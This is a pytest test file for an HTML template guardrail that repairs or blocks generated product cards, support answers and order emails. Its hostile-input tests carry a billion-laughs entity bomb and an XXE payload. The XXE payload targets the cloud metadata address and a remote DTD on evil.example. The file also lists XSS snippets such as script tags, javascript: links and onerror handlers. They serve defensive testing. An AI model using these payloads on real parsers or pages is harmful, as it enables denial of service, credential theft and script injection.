"""html_template: template loading errors, spans and paths, repair, hostile input, properties."""

from __future__ import annotations

import gc
import re
import socket
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from guardrails import Context, Engine
from guardrails.checks._html.analyze import analyze, visible_text
from guardrails.checks._html.render import render
from guardrails.checks._html.scan import scan
from guardrails.checks.base import RunContext
from guardrails.document import Document
from guardrails.findings import Verdict
from guardrails.rules.compile import compile_policy
from guardrails.rules.errors import RuleError
from guardrails.rules.loader import load_ruleset
from tests.helpers import engine_with

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "fixtures" / "html"
CASES: dict[str, dict[str, Any]] = yaml.safe_load((FIXTURES / "cases.yaml").read_text(encoding="utf-8"))
RULESET = load_ruleset()
ENGINE = Engine.from_policy("html", ruleset=RULESET)
HTML_CODES = {r.rule.code for r in RULESET.rules.values() if r.pack == "html"}
CARD = (FIXTURES / "product-card" / "follows-trail-runner.html").read_text(encoding="utf-8")


def validate(text: str, template: str = "product-card", **ctx: Any) -> Any:
    return ENGINE.validate(text, {"template": template, **ctx})


def codes(report: Any) -> set[str]:
    return {f.code for f in report.findings}


def codes_of(report: Any, code: str) -> list[Any]:
    return [f for f in report.findings if f.code == code]


def open_html(report: Any) -> list[Any]:
    return [f for f in report.open_findings if f.code in HTML_CODES]


def well_formed(text: str, *, xml: bool = False) -> bool:
    """Our scanner finds no problem; with `xml`, lxml in strict XML mode (no DTD, entities, network) parses it
    too, as every re-rendered output must (a conforming output may use HTML-only forms such as <br> and &nbsp;)."""
    if scan(text).problems:
        return False
    if not xml:
        return True
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, recover=False)
    try:
        etree.fromstring(f"<_>{text}</_>", parser)
    except etree.XMLSyntaxError:
        return False
    return True


def _rule(code: str, templates: dict[str, Any], report: list[str]) -> dict[str, Any]:
    return {
        "id": f"r-{code.lower()}",
        "code": code,
        "check": "html_template",
        "params": {"templates": templates, "report": report},
        "message": "{detail}",
        "action": "repair",
    }


# -- fixtures --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(CASES))
def test_fixture(name: str) -> None:
    expected = CASES[name]
    path = FIXTURES / name
    template = path.parent.name
    report = validate(path.read_text(encoding="utf-8"), template)
    assert report.verdict.value == expected["verdict"]
    assert set(expected["codes"]) <= codes(report)
    if expected["verdict"] == "pass":
        assert report.findings == []
    # Whatever the input, what is delivered is well-formed, safe and fits the template (bar missing sections).
    assert well_formed(report.output, xml=rerendered(report))
    again = validate(report.output, template)
    assert again.edits == [] and {f.code for f in open_html(again)} <= {"HTML008"}
    lowered = report.output.lower()
    assert "<script" not in lowered and "javascript:" not in lowered and " on" not in _tags(report.output)


def rerendered(report: Any) -> bool:
    return any(e.edit.code == "HTML014" for e in report.edits)


def _tags(text: str) -> str:
    parsed = scan(text)
    return " ".join(a.name for el in parsed.root.iter() for a in el.attrs)


def test_all_fixture_files_are_listed() -> None:
    on_disk = {str(p.relative_to(FIXTURES)) for p in FIXTURES.glob("*/*.html") if p.parent.name != "bench"}
    assert on_disk == set(CASES)


# -- findings: codes, spans, paths, evidence --------------------------------------------------------------------


def test_spans_and_paths_locate_each_problem() -> None:
    text = CARD.replace('<p class="price" data-slot="price">', '<p class="price" data-slot="price" onclick="x()">')
    report = validate(text)
    [finding] = [f for f in report.findings if f.code == "HTML004"]
    assert text[finding.span.start : finding.span.end] == 'onclick="x()"'
    assert finding.span.path == "/article[1]/p[1]"
    assert finding.evidence.details["kind"] == "event-handler"
    assert report.verdict is Verdict.REPAIRED
    assert "onclick" not in report.output and "Grippy" in report.output


def test_local_fix_only_touches_the_attribute() -> None:
    text = CARD.replace('<p class="price" data-slot="price">', '<p class="price" data-slot="price" onclick="x()">')
    report = validate(text)
    assert [e.edit.start for e in report.edits] == [text.index('onclick="x()"')]
    assert report.output == text.replace('onclick="x()"', "")


def test_missing_required_section_is_a_regeneration_request_naming_it() -> None:
    text = CARD.replace('  <p class="price" data-slot="price">$89.00</p>\n', "")
    report = validate(text)
    assert report.verdict is Verdict.REGENERATE
    request = report.regeneration
    assert request is not None and request.template is not None
    assert 'data-slot="price"' in request.template and "price: required" in request.template
    [reason] = request.reasons
    assert reason.code == "HTML008" and "'price'" in reason.message
    assert "data-slot='price'" in reason.instruction and "at most 30 characters" in reason.instruction
    # The delivered output is still the best page we can make: the template with an empty price.
    assert '<p class="price" data-slot="price"></p>' in report.output


def test_unmarked_sections_are_recovered_by_heading_and_position() -> None:
    text = (FIXTURES / "support-answer" / "strays-headings-no-markers.html").read_text(encoding="utf-8")
    report = validate(text, "support-answer")
    assert report.verdict is Verdict.REPAIRED
    assert '<li data-slot="step">Go to <a href="https://help.example.com/billing">Billing</a>.</li>' in report.output
    assert "Hope this helps" not in report.output


def test_too_long_section_is_cut_to_its_limit() -> None:
    text = CARD.replace("$89.00", "$89.00, or four interest-free payments of $22.25 each month")
    report = validate(text)
    assert "HTML013" in codes(report)
    price = report.output.split('data-slot="price">')[1].split("</p>")[0]
    assert len(price) <= 30 and price.endswith("…")


def test_allowed_domains_from_context_extend_the_link_policy() -> None:
    text = CARD.replace("https://shop.example.com/p/", "https://partner.example.org/p/")
    assert "HTML006" in codes(validate(text))
    assert "HTML006" not in codes(validate(text, allowed_domains=["partner.example.org"]))


def test_attributes_found_clean_once_are_judged_again_under_other_rules() -> None:
    # Clean attribute texts are remembered across calls: the verdict must follow the domains, slot and template.
    text = CARD.replace("https://shop.example.com/p/", "https://partner.example.org/p/")
    for _ in range(2):
        assert "HTML006" not in codes(validate(text, allowed_domains=["partner.example.org"]))
        assert "HTML006" in codes(validate(text))
    link = '<a href="https://partner.example.org/x">x</a>'
    answer = (FIXTURES / "support-answer" / "follows-reset-password.html").read_text(encoding="utf-8")
    in_summary = answer.replace("</p></div>", f" {link}</p></div>", 1)
    assert in_summary != answer
    assert "HTML006" not in codes(validate(in_summary, "support-answer", allowed_domains=["partner.example.org"]))
    assert "HTML006" in codes(validate(in_summary, "support-answer"))


def test_no_template_means_no_html_findings() -> None:
    report = ENGINE.validate("<script>alert(1)</script> plain text answer")
    assert not (codes(report) & HTML_CODES)


def test_unknown_template_fails_closed() -> None:
    report = validate(CARD, "product-crad")
    assert report.verdict is Verdict.BLOCK
    assert "HTML015" in codes(report)


def test_non_english_and_entities_round_trip() -> None:
    text = (FIXTURES / "order-email" / "follows-order-ja.html").read_text(encoding="utf-8")
    assert validate(text, "order-email").verdict is Verdict.PASS
    mangled = text.replace("山田 様", "山田 様 &amp; <b>家族</b>")
    report = validate(mangled, "order-email")
    assert report.verdict is Verdict.REPAIRED
    assert "山田 様 &amp; 家族" in report.output


# -- templates: errors name file, line and problem ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "slots", "needle"),
    [
        ('<div>\n<p data-slot="a">\n</div>', {}, "line 2: <p> is not closed"),
        ('<div data-slot="a">\n  <p data-slot="b"></p></div>', {}, "line 2: slot 'b' is nested inside slot 'a'"),
        ('<p data-slot="a"></p>\n<p data-slot="a"></p>', {}, "line 2: slot 'a' is marked twice (first on line 1)"),
        ('<p data-slot="a"></p>', {"b": {}}, "slot 'b' is configured in the rule but no element has"),
        ('<p data-slot="a"></p>\n<script>x()</script>', {}, "line 2: <script> is not allowed in a template"),
        ('<p data-slot="A b"></p>', {}, "slot name 'A b' must be lower-case"),
        ("<p>no slots</p>", {}, 'no element carries data-slot="..."'),
        ('<p data-slot="a"></p>\n<a href=" javascript:x()">x</a>', {}, "line 2: javascript: URL in a template"),
        ('<p data-slot="a"></p>\n<my:card></my:card>', {}, "line 2: tag name 'my:card' is not a plain name"),
    ],
)
def test_bad_template_names_file_line_and_problem(
    tmp_path: Path, html: str, slots: dict[str, Any], needle: str
) -> None:
    rules = tmp_path / "rules"
    (rules / "templates").mkdir(parents=True)
    (rules / "templates" / "t.html").write_text(html, encoding="utf-8")
    with pytest.raises(RuleError) as err:
        engine_with(tmp_path, [_rule("TST001", {"t": {"file": "templates/t.html", "slots": slots}}, ["malformed"])])
    message = str(err.value)
    assert "templates/t.html" in message and "r-tst001" in message
    assert needle in message


def test_missing_and_non_utf8_template_files(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"nope\.html: cannot read"):
        engine_with(tmp_path, [_rule("TST001", {"t": {"file": "nope.html"}}, ["malformed"])])
    (tmp_path / "rules").mkdir(exist_ok=True)
    (tmp_path / "rules" / "bad.html").write_bytes(b'<p data-slot="a">\n\xff</p>')
    with pytest.raises(RuleError, match=r"bad\.html line 2: not UTF-8"):
        engine_with(tmp_path, [_rule("TST001", {"t": {"file": "bad.html"}}, ["malformed"])])


@pytest.mark.parametrize(
    ("slot", "key"),
    [
        ({"allowed_tags": ["p", "script"]}, "params.templates.t.slots.a.allowed_tags"),
        ({"allowed_attributes": {"p": ["onclick"]}}, "params.templates.t.slots.a.allowed_attributes"),
        ({"links": {"schemes": ["javascript"]}}, "params.templates.t.slots.a.links.schemes"),
        ({"max_char": 3}, "params.templates.t.slots.a.max_char"),
    ],
)
def test_bad_slot_constraints_name_the_key(tmp_path: Path, slot: dict[str, Any], key: str) -> None:
    templates = {"t": {"html": '<p data-slot="a"></p>', "slots": {"a": slot}}}
    with pytest.raises(RuleError, match=key.replace(".", r"\.")):
        engine_with(tmp_path, [_rule("TST001", templates, ["malformed"])])


def test_user_rules_dir_registers_its_own_template(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    (rules / "tpl").mkdir(parents=True)
    (rules / "tpl" / "note.html").write_text('<aside class="note"><p data-slot="body"></p></aside>', encoding="utf-8")
    templates = {"note": {"file": "tpl/note.html", "slots": {"body": {"text_only": True, "max_chars": 20}}}}
    engine = engine_with(
        tmp_path, [_rule("TST001", templates, ["disallowed-tag"]), _rule("TST002", templates, ["template-mismatch"])]
    )
    report = engine.validate(
        '<aside class="note"><p data-slot="body"><b>Hi</b> there</p></aside>', {"template": "note"}
    )
    assert report.output == '<aside class="note"><p data-slot="body">Hi there</p></aside>'


# -- hostile input: a finding within the deadline, nothing fetched -------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10)).replace(
        "&lol0;", "&lol;"
    )
    + ']>\n<p class="price" data-slot="price">&lol9;</p>'
)
XXE = (
    '<!DOCTYPE card [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">'
    '<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>'
    '<h2 class="product-name" data-slot="name">&xxe;</h2>'
)


class _NoSockets:
    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.calls: list[Any] = []

        def refuse(*args: Any, **kwargs: Any) -> Any:
            self.calls.append(args)
            raise AssertionError(f"network use: {args!r}")

        monkeypatch.setattr(socket.socket, "connect", refuse)
        monkeypatch.setattr(socket, "getaddrinfo", refuse)
        monkeypatch.setattr(socket, "create_connection", refuse)


def _within_deadline(report: Any) -> None:
    # The engine's own verdict on time: a check past its deadline is a degraded report with an ENG002 finding.
    assert report.degraded == [], report.degraded
    assert not [f for f in report.findings if f.code == "ENG002"]


def _unscaled(policy_update: dict[str, Any] | None = None) -> Engine:
    """The html policy compiled with the deadlines it states (250 ms per rule), for tests using the
    `unscaled_deadlines` fixture; warmed up on a normal output, so a cold first call is not what is timed.
    The hostile inputs below are answered in about 1 ms, so a slow shared machine still has ample margin."""
    policy = ENGINE.policy.model_copy(update=policy_update or {})
    engine = Engine(compile_policy(policy, RULESET))
    assert all(c.deadline_s == 0.25 for c in engine.rules)
    engine.validate(CARD, {"template": "product-card"})
    return engine


@pytest.mark.usefixtures("unscaled_deadlines")
@pytest.mark.parametrize("text", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "external-entity"])
def test_entity_attacks_are_reported_never_expanded_or_fetched(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    engine = _unscaled()
    guard = _NoSockets(monkeypatch)
    report = engine.validate(text, {"template": "product-card"})
    _within_deadline(report)
    declarations = [f for f in report.findings if f.code == "HTML001" and "DOCTYPE" in f.message]
    assert declarations and text[declarations[0].span.start :].startswith("<!DOCTYPE")
    assert "lollol" not in report.output and "DOCTYPE" not in report.output and "ENTITY" not in report.output
    assert len(report.output) < 2 * len(text) + 1024
    assert well_formed(report.output)
    assert guard.calls == []


@pytest.mark.usefixtures("unscaled_deadlines")
def test_ten_megabytes_of_html_is_cut_off_with_a_finding() -> None:
    row = '<p class="x">Lorem ipsum <b>dolor</b> sit amet, <a href="https://shop.example.com/">consectetur</a>.</p>\n'
    text = row * (10_000_000 // len(row) + 1)
    # The engine's own size limit answers first under the shipped policy...
    assert "ENG003" in codes(validate(text))
    # ...and with that limit lifted, the check's parser limit answers, without parsing or searching 10 MB.
    report = _unscaled({"max_output_chars": 50_000_000}).validate(text, {"template": "product-card"})
    assert "HTML002" in codes(report)
    assert report.verdict is Verdict.BLOCK
    # Only the html rules are held to their unscaled deadline here (they take well under 1 ms on it): the text
    # pack's rules do read all 10 MB (TXT001 about 15 ms on a quiet machine), which a loaded CI runner could
    # stretch past 250 ms; that would be their lateness, not the html check's.
    late = {d.rule_id for d in report.degraded}  # a late rule is degraded (and gets an ENG002 finding)
    assert not late & {c.rule.id for c in ENGINE.rules if c.rule.code in HTML_CODES}, report.degraded


@pytest.mark.usefixtures("unscaled_deadlines")
def test_nesting_ten_thousand_deep_is_cut_off_with_a_finding() -> None:
    text = "<div>" * 10_000 + "deep" + "</div>" * 10_000
    report = _unscaled().validate(text, {"template": "product-card"})
    [finding] = [f for f in report.findings if f.code == "HTML002"]
    assert "nested more than" in finding.message
    assert report.verdict is Verdict.BLOCK
    _within_deadline(report)


def test_unclosed_quote_and_many_tags_stay_linear() -> None:
    text = '<p data-slot="price" title="' + "<a " * 200_000
    report = validate(text)
    _within_deadline(report)
    assert "HTML001" in codes(report) or "HTML002" in codes(report)


@pytest.mark.parametrize(
    "raw",
    [
        b'<h2 class="product-name" data-slot="name">Caf\xe9 cr\xe8me</h2>',  # latin-1 bytes read as UTF-8
        b'<h2 class="product-name" data-slot="name">\xc3\x28\xa0\xa1 shoes</h2>',  # invalid sequences
        b'<h2 class="product-name" data-slot="name">nul\x00 and \x1b[31m escape</h2>',  # control characters
        b'<h2 class="product-name" data-slot="name">non\xef\xbf\xbfcharacter</h2>',  # U+FFFF: not an XML character
    ],
)
def test_broken_encodings_are_reported_and_cleaned(raw: bytes) -> None:
    body = raw.decode("utf-8", errors="surrogateescape")
    text = CARD.replace('<h2 class="product-name" data-slot="name">Trail Runner 2 — Men\'s</h2>', body)
    report = validate(text)
    _within_deadline(report)
    if any("\ud800" <= c <= "\udfff" for c in body):
        # The engine turns lone surrogates into U+FFFD before any check runs: rule TXT001 flags each run of
        # them, where the broken bytes were, and its repair drops them.
        offset = text.index(body)
        runs = [(offset + m.start(), offset + m.end()) for m in re.finditer("[\ud800-\udfff]+", body)]
        assert sorted((f.span.start, f.span.end) for f in codes_of(report, "TXT001")) == runs
        assert all(set(report.original[a:b]) == {"\ufffd"} for a, b in runs)
        assert "\ufffd" not in report.output
    else:
        assert any(f.code == "HTML001" and "encoding" in f.message for f in report.findings)
    assert well_formed(report.output)
    report.output.encode("utf-8")  # no lone surrogates survive


# -- properties -------------------------------------------------------------------------------------------------

CONFORMING = [(p.parent.name, p.read_text(encoding="utf-8")) for p in sorted(FIXTURES.glob("*/follows-*.html"))]
SNIPPETS = [
    "<script>alert(1)</script>",
    ' onclick="x()"',
    '<a href="javascript:alert(1)">x</a>',
    "<b>bold</b>",
    "</div>",
    "</p>",
    "<p>",
    "<",
    "&",
    "&amp;",
    '<p data-slot="bogus">hi</p>',
    '<p class="price" data-slot="price">$1</p>',
    "<!DOCTYPE x>",
    "<!-- c -->",
    "<h3>Steps</h3>",
    "\x00",
    "\x0c",
    "\udce9",
    "\uffff",
    "<style>p{}</style>",
    '<img src="data:x" onerror=1>',
    '"',
    "'",
    ">",
    "Sure! Here you go:",
    "<iframe src=//x>",
    "<li>item</li>",
    ' data-slot=""',
    ' href="',
    '"/>',
    '<a href="https://help.example.com/" href="javascript:x">a</a>',
    "<br/>",
    "<h4>Steps</h4>",
    "&#0;",
    "&#x110000;",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
]


@st.composite
def mutations(draw: st.DrawFn) -> tuple[str, str]:
    template, text = draw(st.sampled_from(CONFORMING))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["insert", "delete", "duplicate", "swap"]))
        n = len(text)
        i = draw(st.integers(0, n))
        j = draw(st.integers(i, min(n, i + 120)))
        if op == "insert":
            text = text[:i] + draw(st.sampled_from(SNIPPETS) | st.text(max_size=8)) + text[i:]
        elif op == "delete":
            text = text[:i] + text[j:]
        elif op == "duplicate":
            text = text[:j] + text[i:j] + text[j:]
        else:
            k = draw(st.integers(0, n))
            a, b = sorted((i, k))
            text = text[:a] + text[j : max(j, b)] + text[a:j] + text[max(j, b) :] if a < j else text
    return template, text


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutations())
def test_repair_of_any_mutation_conforms_and_is_idempotent(case: tuple[str, str]) -> None:
    template, text = case
    report = validate(text, template)
    # A check that errored would be a bug; one that ran late on a loaded machine is not what this tests.
    assert [d for d in report.degraded if d.reason.value == "error"] == []
    assert well_formed(report.output, xml=rerendered(report)), report.output
    assert {f.code for f in open_html(report)} <= {"HTML008"}, [f.message for f in open_html(report)]
    again = validate(report.output, template)
    assert again.output == report.output and again.edits == []
    assert {f.code for f in open_html(again)} <= {"HTML008"}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutations(), st.sampled_from(["", "Sure! ", '<p data-slot="bogus">x</p>']))
def test_content_copied_as_written_is_what_the_sanitising_render_writes(case: tuple[str, str], prefix: str) -> None:
    # The render copies a slot's content as written when the analysis found it clean (`Analysis.verbatim`);
    # the prefix makes the outputs stray, so that a render is made even when the mutation is harmless.
    template, text = case
    text = prefix + text
    check = next(r.check for r in ENGINE.rules if r.check.kind == "html_template")
    tmpl = check.templates[template]  # type: ignore[attr-defined]
    analysis = analyze(text, scan(text), tmpl, [], lambda: None)
    copied = analysis.verbatim
    for name, elements in analysis.occurrences.items():
        for el in elements:
            span = copied.get((name, id(el)))
            if span is not None and analysis.written_as_rendered(*span):
                # The length check read the text between the tags: it is what a reader sees.
                assert re.sub(r"<[^>]*>", "", text[span[0] : span[1]]) == visible_text(el, tmpl.slots)
    try:
        fast = render(analysis, [])
    except ValueError:
        fast = None
    analysis.verbatim = {}
    try:
        slow = render(analysis, [])
    except ValueError:
        slow = None
    assert fast == slow
    if copied and prefix:
        assert fast is not None


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(CONFORMING))
def test_conforming_output_is_never_changed(case: tuple[str, str]) -> None:
    template, text = case
    report = validate(text, template)
    assert report.verdict is Verdict.PASS and report.output == text


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([*"<>/=\"' abp!-?&;#x\n", "<p>", "</p>", "<!--", "-->", "\udce9"]), max_size=60).map(
        "".join
    )
)
def test_spans_always_lie_inside_the_text(text: str) -> None:
    report = validate(text)
    for f in report.findings:
        assert 0 <= f.span.start <= f.span.end <= len(text)
    assert well_formed(report.output)


def test_hits_on_text_with_lone_surrogates_are_utf8_encodable() -> None:
    # The engine replaces lone surrogates before checks run; a check called directly may still see them.
    text = '<h2 class="product-name" data-slot="name">Caf\udce9</h2><b\udce9>x</b\udce9>'
    hits = [h for c in ENGINE.rules if c.rule.code in HTML_CODES for h in c.check.run(Document(text), _run_ctx())]
    assert any(h.path and "\\udce9" in h.path for h in hits)
    for h in hits:
        assert all(_utf8(str(v)) for v in h.values.values()) and _utf8(h.path or "")
        if "\udce9" in text[h.start : h.end]:
            assert "\\udce9" in h.fingerprint_key


def _run_ctx() -> RunContext:
    return RunContext(Context(template="product-card"))


def _utf8(value: str) -> bool:
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


# -- sharing, defaults, nesting ------------------------------------------------------------------------------------


def test_one_scan_and_one_analysis_serve_every_rule(monkeypatch: pytest.MonkeyPatch) -> None:
    import guardrails.checks.html_template as module

    calls = {"scan": 0, "analyze": 0}
    real_scan, real_analyze = module.scan, module.analyze

    def counting_scan(*args: Any, **kwargs: Any) -> Any:
        calls["scan"] += 1
        return real_scan(*args, **kwargs)

    def counting_analyze(*args: Any, **kwargs: Any) -> Any:
        calls["analyze"] += 1
        return real_analyze(*args, **kwargs)

    monkeypatch.setattr(module, "scan", counting_scan)
    monkeypatch.setattr(module, "analyze", counting_analyze)
    report = validate(CARD)
    assert report.verdict is Verdict.PASS
    assert calls == {"scan": 1, "analyze": 1}
    assert len([t for t in report.timings if t.check == "html_template"]) == len(HTML_CODES)


def test_default_template_applies_when_the_call_names_none(tmp_path: Path) -> None:
    templates = {"note": {"html": '<p class="note" data-slot="body"></p>', "slots": {"body": {"text_only": True}}}}
    rule = _rule("TST001", templates, ["disallowed-tag"])
    rule["params"]["default_template"] = "note"
    engine = engine_with(tmp_path, [rule])
    report = engine.validate('<p class="note" data-slot="body"><i>hi</i></p>')
    assert [f.code for f in report.findings] == ["TST001"]
    assert report.output == '<p class="note" data-slot="body">hi</p>'


def test_default_template_must_be_registered(tmp_path: Path) -> None:
    rule = _rule("TST001", {"note": {"html": '<p data-slot="body"></p>'}}, ["malformed"])
    rule["params"]["default_template"] = "nope"
    with pytest.raises(RuleError, match="default_template 'nope' is not one of the templates: note"):
        engine_with(tmp_path, [rule])


def test_validating_html_leaves_nothing_for_the_cyclic_garbage_collector() -> None:
    # Parsed trees are freed by reference counting as soon as their validation is over: a cycle per element
    # (parent <-> children) made the collector's passes ~15% of the check's time.
    outputs = [(FIXTURES / name).read_text(encoding="utf-8") for name in sorted(CASES)]
    for name, text in zip(sorted(CASES), outputs, strict=True):
        validate(text, Path(name).parent.name)  # warm-up: templates' one-time renders
    gc.collect()
    gc.disable()
    try:
        for name, text in zip(sorted(CASES), outputs, strict=True):
            validate(text, Path(name).parent.name)
            validate("Sure! " + text, Path(name).parent.name)
        assert gc.collect() == 0
    finally:
        gc.enable()


def test_an_unclosed_paragraph_ends_where_a_block_starts() -> None:
    # As in browsers: the description <div> ends the price <p>; one finding, not every later slot "nested" in it.
    text = CARD.replace('data-slot="price">$89.00</p>', 'data-slot="price">$89.00', 1)
    report = validate(text)
    assert [f.message for f in codes_of(report, "HTML001")] == ["Malformed HTML: <p> is not closed before <div>"]
    assert "HTML009" not in codes(report)
    assert 'data-slot="price">$89.00\n  </p>\n  <div class="description"' in report.output


def test_unknown_slot_nested_in_another_is_read_as_its_content() -> None:
    text = CARD.replace("<p>A light, cushioned", '<p data-slot="bogus">A light, cushioned')
    report = validate(text)
    assert "HTML009" in codes(report)  # a slot inside a slot
    # A <p> is allowed there: the marker attribute is reported, not the tag.
    assert [f.evidence.details["kind"] for f in codes_of(report, "HTML007")] == ["disallowed-attribute"]
    assert "A light, cushioned shoe" in report.output


def test_slot_nested_in_another_is_moved_to_its_place() -> None:
    text = CARD.replace('<p class="price" data-slot="price">$89.00</p>', "").replace(
        "<p>A light, cushioned", '<p class="price" data-slot="price">$89.00</p><p>A light, cushioned'
    )
    report = validate(text)
    assert "HTML009" in codes(report)
    assert report.verdict is Verdict.REPAIRED
    assert '<p class="price" data-slot="price">$89.00</p>\n  <div class="description"' in report.output


def test_unmarked_items_next_to_marked_ones_are_kept() -> None:
    text = CARD.replace('<li data-slot="feature">Recycled mesh upper</li>', "<li>Recycled mesh upper</li>")
    report = validate(text)
    assert report.verdict is Verdict.REPAIRED
    assert '<li data-slot="feature">Recycled mesh upper</li>' in report.output


def test_template_markup_keeps_only_the_templates_attributes() -> None:
    text = CARD.replace('<article class="product-card">', '<article class="product-card" style="display:none">')
    report = validate(text)
    [finding] = report.findings
    assert finding.code == "HTML007" and finding.span.path == "/article[1]"
    assert text[finding.span.start : finding.span.end] == 'style="display:none"'
    assert "display:none" not in report.output


def test_regeneration_carries_the_template_of_this_call() -> None:
    text = (FIXTURES / "order-email" / "strays-no-order-number.html").read_text(encoding="utf-8")
    report = validate(text, "order-email")
    assert report.verdict is Verdict.REGENERATE and report.regeneration is not None
    assert report.regeneration.template is not None
    assert 'data-slot="order-number"' in report.regeneration.template
    assert [r.code for r in report.regeneration.reasons] == ["HTML008"]
    assert "'order-number'" in report.regeneration.reasons[0].message


def test_regeneration_extras_follow_the_context_they_are_given() -> None:
    check = next(c.check for c in ENGINE.rules if c.rule.code == "HTML008")
    assert 'data-slot="order-number"' in check.regeneration_extras(Context(template="order-email"))["template"]
    assert 'data-slot="price"' in check.regeneration_extras(Context(template="product-card"))["template"]
    assert check.regeneration_extras(Context()) == {}
    assert check.regeneration_extras(Context(template="no-such-template")) == {}


def test_mis_nested_tags_are_reported_and_re_rendered_well_formed() -> None:
    text = '<p data-slot="intro"><b><i>x</b></i></p>'
    report = validate(text, "order-email")
    malformed = sorted(text[f.span.start : f.span.end] for f in codes_of(report, "HTML001"))
    assert malformed == ["</i>", "<i>"]
    assert '<p class="intro" data-slot="intro">x</p>' in report.output
    assert well_formed(report.output, xml=True)


def test_foreign_cta_link_is_reported_once_and_removed() -> None:
    text = CARD.replace("https://shop.example.com/p/", "https://evil.example/p/")
    report = validate(text)
    [finding] = report.findings
    assert finding.code == "HTML006" and finding.span.path == "/article[1]/a[1]"
    assert "evil.example" not in report.output


def test_slot_element_of_the_wrong_tag_is_re_rendered() -> None:
    text = CARD.replace('<h2 class="product-name" data-slot="name">', '<h3 class="product-name" data-slot="name">')
    text = text.replace("Men's</h2>", "Men's</h3>")
    report = validate(text)
    assert codes(report) == {"HTML007", "HTML014"}
    assert report.verdict is Verdict.REPAIRED
    assert '<h2 class="product-name" data-slot="name">Trail Runner 2 — Men\'s</h2>' in report.output


def test_the_render_verifier_rejects_what_is_not_well_formed_one_parser_per_thread() -> None:
    import threading

    from lxml import etree

    from guardrails.checks._html import render as render_mod

    parser = render_mod._xml_parser()
    assert etree.fromstring("<_><p>a<br />b</p></_>", parser) is None  # checked, nothing built
    for bad in ("<_><p>a</_>", "<_><p>a</b></_>", "<_>&nbsp;</_>", "<_>a<</_>"):
        with pytest.raises(etree.XMLSyntaxError):
            etree.fromstring(bad, parser)
    others: list[object] = []
    thread = threading.Thread(target=lambda: others.append(render_mod._xml_parser()))
    thread.start()
    thread.join()
    assert others[0] is not parser and render_mod._xml_parser() is parser
